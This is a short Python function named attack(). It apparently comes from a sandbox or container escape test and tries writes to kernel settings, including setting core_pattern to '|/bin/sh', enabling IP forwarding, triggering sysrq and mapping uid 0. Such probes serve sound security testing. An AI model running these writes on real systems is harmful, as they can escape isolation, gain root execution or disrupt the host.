# goal 1: settings of the kernel
def attack():
    return first(
        lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh"),
        lambda: open("/proc/sys/kernel/hostname", "w").write("x"),
        lambda: open("/proc/sys/net/ipv4/ip_forward", "w").write("1"),
        lambda: open("/proc/sysrq-trigger", "w").write("h"),
        lambda: open("/proc/self/oom_score_adj", "w").write("-1000"),
        lambda: open("/proc/self/uid_map", "w").write("0 0 1"),
        lambda: open("/sys/kernel/mm/ksm/run", "w").write("1"),
    )
